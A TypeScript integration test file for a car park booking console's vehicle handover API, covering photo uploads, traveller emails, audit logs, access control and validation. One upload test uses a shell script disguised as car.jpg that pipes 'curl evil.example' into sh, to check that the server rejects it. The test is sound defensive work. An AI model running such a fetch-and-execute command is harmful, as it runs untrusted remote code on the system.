import { type HandoverList, type ManagedBooking, carHandoverText } from '@parking/core';
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditLog, handovers, providers } from '../../../../../packages/server/src/db/schema/index';
import { seedOrganization, seedUser, signIn } from '../../../support/console';
import { type FilePart, handoverCounts, multipartForm, photo, seedBooking } from '../../../support/handovers';
import { type TestApp, createTestApp } from '../../../support/test-app';

let t: TestApp;
const cookie: Record<string, string> = {};
const park: Record<'a' | 'b', string> = { a: '', b: '' };
const MADE = new Date('2026-11-20T10:00:00Z');

beforeAll(async () => {
  t = await createTestApp();
  const db = t.db.database.db;
  await seedOrganization(db, 'op-a', 'operator');
  await seedOrganization(db, 'op-b', 'operator');
  await seedOrganization(db, 'staff-o', 'staff');
  await seedOrganization(db, 'partner-o', 'partner');
  await seedUser(db, { id: 'a-desk', organizationId: 'op-a', role: 'desk' });
  await seedUser(db, { id: 'b-owner', organizationId: 'op-b', role: 'owner' });
  await seedUser(db, { id: 'staffer', organizationId: 'staff-o', role: 'support', passkey: true });
  await seedUser(db, { id: 'partner', organizationId: 'partner-o', role: 'owner' });
  const parks = await db.select({ id: providers.id }).from(providers).orderBy(providers.name).limit(2);
  [park.a, park.b] = parks.map((p) => p.id) as [string, string];
  await db.update(providers).set({ organizationId: 'op-a' }).where(eq(providers.id, park.a));
  await db.update(providers).set({ organizationId: 'op-b' }).where(eq(providers.id, park.b));
  for (const ref of ['CAP-HAPPY1', 'PK-REFUSE', 'PK-NOSHOW']) await seedBooking(db, ref, park.a, MADE);
  // Made 30 seconds into a minute: the console's times are to the minute.
  await seedBooking(db, 'PK-MINUTE', park.a, new Date('2026-11-20T10:00:30Z'));
  await seedBooking(db, 'PK-RIVAL', park.b, MADE);
  await seedBooking(db, 'PK-GONE', park.a, MADE, 'cancelled');
  t.clock.set('2026-12-01T07:00:00Z');
  for (const id of ['a-desk', 'b-owner', 'staffer', 'partner']) cookie[id] = (await signIn(t.app, id)).cookie;
}, 120_000);
afterAll(async () => t?.close());

const post = (reference: string, fields: Record<string, string>, files: FilePart[] = [], who = 'a-desk') => {
  const form = multipartForm(fields, files);
  return t.app.inject({
    method: 'POST',
    url: `/api/v1/console/bookings/${reference}/handovers`,
    headers: { ...form.headers, origin: 'http://127.0.0.1:4000', ...(who ? { cookie: cookie[who]! } : {}) },
    payload: form.payload,
  });
};
const get = (url: string, who = 'a-desk') =>
  t.app.inject({ method: 'GET', url, headers: who ? { cookie: cookie[who]! } : {} });
const list = async (reference: string, who = 'a-desk'): Promise<HandoverList> => {
  const res = await get(`/api/v1/console/bookings/${reference}/handovers`, who);
  expect(res.statusCode, res.body).toBe(200);
  return res.json();
};
/** The traveller's manage view of a booking, as the manage page reads it. */
async function manageView(reference: string): Promise<ManagedBooking> {
  const email = `${reference.replace(/[^A-Za-z]/g, '').toLowerCase()}@traveller.example`;
  const lookup = await t.app.inject({ method: 'POST', url: '/api/v1/manage/lookup', payload: { reference, email } });
  expect(lookup.statusCode, lookup.body).toBe(200);
  const view = await t.app.inject({
    method: 'GET',
    url: '/api/v1/manage/booking',
    headers: { authorization: `Bearer ${lookup.json().data.token}` },
  });
  expect(view.statusCode, view.body).toBe(200);
  for (const secret of ['User a-desk', 'K7', 'B14', 'handover-photos', 'Scratch'])
    expect(view.body).not.toContain(secret);
  return view.json().data;
}
const sentTo = (reference: string) => t.mailer.sent.filter((m) => m.subject.includes(reference));

describe('a check-in and a check-out with photos', () => {
  it('records the check-in with a photo stripped of its GPS, and emails the traveller once', async () => {
    const res = await post(
      'CAP-HAPPY1',
      {
        kind: 'check-in',
        registration: 'ab12cde',
        at: '2026-12-01T06:42:00Z',
        mileage: '12345',
        fuel: 'half',
        keyTag: 'K7',
        bay: 'B14',
        notes: 'Scratch on rear bumper',
      },
      [{ data: await photo(3000, 1500, { gps: true }) }, { data: await photo(40, 30, { format: 'png' }) }],
    );
    expect(res.statusCode, res.body).toBe(201);
    const {
      handovers: [h],
    } = await list('CAP-HAPPY1');
    expect(h).toMatchObject({
      kind: 'check-in',
      registration: 'AB12 CDE',
      at: '2026-12-01T06:42:00.000Z',
      mileage: 12345,
      fuel: 'half',
      keyTag: 'K7',
      bay: 'B14',
      staffName: 'User a-desk',
    });
    expect(h!.photos.map((p) => [p.width, p.height])).toEqual([
      [2000, 1000],
      [40, 30],
    ]);

    const image = await get(h!.photos[0]!.url);
    expect(image.statusCode).toBe(200);
    expect(image.headers).toMatchObject({
      'content-type': 'image/jpeg',
      'cache-control': 'private, no-store',
      'x-content-type-options': 'nosniff',
      'content-disposition': 'inline',
    });
    const meta = await sharp(image.rawPayload).metadata();
    expect([meta.width, meta.height, meta.exif, meta.icc]).toEqual([2000, 1000, undefined, undefined]);
    expect(image.rawPayload.toString('latin1')).not.toContain('PhoneCo');
    expect((await get(h!.photos[1]!.url)).headers['content-type']).toBe('image/png');

    await t.app.jobs.drain();
    await t.app.jobs.drain();
    const [mail, ...more] = sentTo('CAP-HAPPY1');
    expect(more).toEqual([]);
    expect(mail!.subject).toBe('Your car was checked in at 06:42 (CAP-HAPPY1)');
    expect(mail!.text).toContain('checked in your car AB12 CDE at 06:42 on Tue 1 Dec 2026');
    expect(mail!.text).toContain('Mileage in: 12,345 miles.');
    for (const secret of ['K7', 'B14', 'User a-desk', 'Scratch']) expect(mail!.text + mail!.html).not.toContain(secret);
    const [row] = await t.db.database.db.select().from(handovers).where(eq(handovers.id, h!.id));
    expect(row!.emailSentAt).not.toBeNull();
  });

  it("shows the traveller's manage page the check-in while the car is with the car park", async () => {
    const { handovers: cars } = await manageView('CAP-HAPPY1');
    expect(cars).toEqual([
      {
        registration: 'AB12 CDE',
        checkedInAt: '2026-12-01T06:42:00.000Z',
        mileageIn: 12345,
        returnedAt: null,
        mileageOut: null,
      },
    ]);
    expect(carHandoverText(cars[0]!)).toBe('Checked in at 06:42 on Tue 1 Dec 2026, mileage 12,345');
  });

  it('audits the handover without the registration or notes', async () => {
    const [entry] = await t.db.database.db.select().from(auditLog).where(eq(auditLog.action, 'handover.check-in'));
    expect(entry).toMatchObject({
      actorKind: 'member',
      actorId: 'a-desk',
      organizationId: 'op-a',
      targetType: 'handover',
    });
    expect(entry!.changes).toMatchObject({
      registration: { changed: true },
      notes: { changed: true },
      mileage: { before: null, after: 12345 },
      photos: { before: 0, after: 2 },
    });
    expect(JSON.stringify(entry!.changes)).not.toMatch(/AB12|Scratch/);
  });

  it('records the return in London time with mileage in, out and the difference', async () => {
    t.clock.set('2026-12-04T17:30:00Z');
    const res = await post('CAP-HAPPY1', {
      kind: 'check-out',
      registration: 'AB12 CDE',
      at: '2026-12-04T17:10:00Z',
      mileage: '12500',
    });
    expect(res.statusCode, res.body).toBe(201);
    await t.app.jobs.drain();
    const mail = sentTo('CAP-HAPPY1').find((m) => m.subject.startsWith('Your car was returned'))!;
    expect(mail.subject).toBe('Your car was returned at 17:10 (CAP-HAPPY1)');
    expect(mail.text).toContain('at 17:10 on Fri 4 Dec 2026');
    expect(mail.text).toContain('Mileage in: 12,345 miles.\n\nMileage out: 12,500 miles.\n\nDifference: 155 miles.');
    expect(sentTo('CAP-HAPPY1')).toHaveLength(2);
    const [car] = (await manageView('CAP-HAPPY1')).handovers;
    expect(carHandoverText(car!)).toBe(
      'Returned at 17:10 on Fri 4 Dec 2026, mileage 12,500 (155 miles since check-in)',
    );
  });

  it('lets our staff read the records and photos; no other organisation or partner, nor anyone signed out', async () => {
    // Three days after their morning sign-in, a staff session unused since has idled out: they sign in again.
    cookie.staffer = (await signIn(t.app, 'staffer')).cookie;
    const records = await list('CAP-HAPPY1', 'staffer');
    expect(records.handovers.map((h) => h.kind)).toEqual(['check-in', 'check-out']);
    expect(records.booking.vehicles.map((v) => v.registration)).toEqual(['AB12 CDE', 'XY70 ZZZ']);
    const url = records.handovers[0]!.photos[0]!.url;
    expect((await get(url, 'staffer')).statusCode).toBe(200);
    for (const who of ['b-owner', 'partner']) {
      const refused = await get(url, who);
      expect(refused.statusCode).toBe(404);
      expect(refused.json().error.code).toBe('NOT_FOUND');
      expect((await get('/api/v1/console/bookings/CAP-HAPPY1/handovers', who)).statusCode).toBe(404);
    }
    expect((await get(url, '')).statusCode).toBe(401);
    expect((await get('/api/v1/console/bookings/CAP-HAPPY1/handovers', '')).statusCode).toBe(401);
  });
});

describe('refusals change nothing', () => {
  const refused = async (res: Awaited<ReturnType<typeof post>>, status: number, code: string) => {
    expect(res.statusCode, res.body).toBe(status);
    expect(res.json().error.code).toBe(code);
    return res.json().error as { message: string; fields?: Record<string, string> };
  };
  const checkIn = { kind: 'check-in', registration: 'AB12 CDE', mileage: '1000' };

  it('refuses a 6 MB photo, a ninth photo and a script named .jpg with the reason beside the photos', async () => {
    t.clock.set('2026-12-01T07:00:00Z');
    const before = await handoverCounts(t.db.database.db);
    const big = Buffer.concat([await photo(), Buffer.alloc(6 * 1024 * 1024)]);
    expect(
      (await refused(await post('PK-REFUSE', checkIn, [{ data: big }]), 400, 'UPLOAD_TOO_LARGE')).fields?.photos,
    ).toBe('A photo may be at most 5 MB');
    const nine = await Promise.all(Array.from({ length: 9 }, () => photo(8, 8)));
    expect(
      (
        await refused(
          await post(
            'PK-REFUSE',
            checkIn,
            nine.map((data) => ({ data })),
          ),
          400,
          'UPLOAD_TOO_MANY',
        )
      ).fields?.photos,
    ).toBe('Add at most 8 photos');
    const script = {
      data: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'),
      filename: 'car.jpg',
      type: 'image/jpeg',
    };
    expect(
      (await refused(await post('PK-REFUSE', checkIn, [{ data: await photo() }, script]), 400, 'UPLOAD_TYPE')).fields
        ?.photos,
    ).toBe('Photos must be JPEG, PNG or WebP images');
    expect(await handoverCounts(t.db.database.db)).toEqual(before);
  });

  it('takes the type from the bytes: a PNG declared as JPEG is stored as PNG', async () => {
    const res = await post('PK-REFUSE', checkIn, [
      { data: await photo(20, 10, { format: 'png' }), filename: 'x.jpg', type: 'image/jpeg' },
    ]);
    expect(res.statusCode, res.body).toBe(201);
    const [h] = (await list('PK-REFUSE')).handovers;
    expect((await get(h!.photos[0]!.url)).headers['content-type']).toBe('image/png');
  });

  it('refuses a future time, a time before the booking, a repeat, an unknown car and mileage out below in', async () => {
    const before = await handoverCounts(t.db.database.db);
    const future = await refused(
      await post('PK-REFUSE', { ...checkIn, registration: 'XY70 ZZZ', at: '2026-12-01T08:00:00Z' }),
      400,
      'VALIDATION_FAILED',
    );
    expect(future.fields).toEqual({ at: 'The time is in the future' });
    const early = await refused(
      await post('PK-REFUSE', { ...checkIn, registration: 'XY70 ZZZ', at: '2026-11-19T08:00:00Z' }),
      400,
      'VALIDATION_FAILED',
    );
    expect(early.fields).toEqual({ at: 'The time is before the booking was made' });
    expect((await refused(await post('PK-REFUSE', checkIn), 409, 'CONFLICT')).message).toBe(
      'This car is already checked in',
    );
    expect(
      (await refused(await post('PK-REFUSE', { ...checkIn, registration: 'ZZ99 ZZZ' }), 400, 'VALIDATION_FAILED'))
        .fields,
    ).toEqual({ registration: "Choose one of the booking's vehicles" });
    const less = await refused(
      await post('PK-REFUSE', { kind: 'check-out', registration: 'AB12 CDE', mileage: '900' }),
      400,
      'VALIDATION_FAILED',
    );
    expect(less.fields?.mileage).toBe('Mileage out (900) is less than mileage in (1,000)');
    expect(
      (await refused(await post('PK-REFUSE', { kind: 'check-out', registration: 'XY70 ZZZ' }), 409, 'CONFLICT'))
        .message,
    ).toBe('Check this car in before checking it out');
    const bad = await refused(
      await post('PK-REFUSE', {
        kind: 'check-in',
        registration: 'XY70 ZZZ',
        mileage: '-3',
        fuel: 'lots',
        notes: 'x'.repeat(501),
      }),
      400,
      'VALIDATION_FAILED',
    );
    expect(Object.keys(bad.fields ?? {}).sort()).toEqual(['fuel', 'mileage', 'notes']);
    expect(await handoverCounts(t.db.database.db)).toEqual(before);
  });

  it("answers 404 for another organisation's booking, a cancelled one answers 409; signed out 401", async () => {
    const before = await handoverCounts(t.db.database.db);
    expect((await refused(await post('PK-RIVAL', checkIn), 404, 'NOT_FOUND')).message).toBe('Booking not found');
    expect((await refused(await post('CAP-HAPPY1', checkIn, [], 'b-owner'), 404, 'NOT_FOUND')).message).toBe(
      'Booking not found',
    );
    await refused(await post('PK-GONE', checkIn), 409, 'CONFLICT');
    await refused(await post('CAP-HAPPY1', checkIn, [], ''), 401, 'UNAUTHENTICATED');
    await refused(await post('CAP-HAPPY1', checkIn, [], 'staffer'), 404, 'NOT_FOUND');
    const json = await t.app.inject({
      method: 'POST',
      url: '/api/v1/console/bookings/PK-REFUSE/handovers',
      headers: { cookie: cookie['a-desk']!, origin: 'http://127.0.0.1:4000' },
      payload: checkIn,
    });
    expect(json.statusCode).toBe(400);
    expect(await handoverCounts(t.db.database.db)).toEqual(before);
  });
});

describe('times to the minute', () => {
  it('accepts a check-in in the minute the booking was made, not the minute before', async () => {
    const early = await post('PK-MINUTE', { kind: 'check-in', registration: 'AB12 CDE', at: '2026-11-20T09:59:00Z' });
    expect(early.json().error.fields).toEqual({ at: 'The time is before the booking was made' });
    const same = await post('PK-MINUTE', { kind: 'check-in', registration: 'AB12 CDE', at: '2026-11-20T10:00:00Z' });
    expect(same.statusCode, same.body).toBe(201);
  });
});

describe('no-show', () => {
  it('marks a booking no-show without emailing, only before any check-in', async () => {
    const jobs = (await handoverCounts(t.db.database.db)).jobs;
    const res = await post('PK-NOSHOW', { kind: 'no-show', notes: 'Did not arrive by 10:00' });
    expect(res.statusCode, res.body).toBe(201);
    expect((await list('PK-NOSHOW')).handovers).toMatchObject([{ kind: 'no-show', registration: '' }]);
    expect((await handoverCounts(t.db.database.db)).jobs).toBe(jobs);
    expect((await post('PK-NOSHOW', { kind: 'no-show' })).statusCode).toBe(409);
    expect((await post('PK-REFUSE', { kind: 'no-show' })).json().error.message).toBe(
      'A car of this booking is already checked in',
    );
  });
});
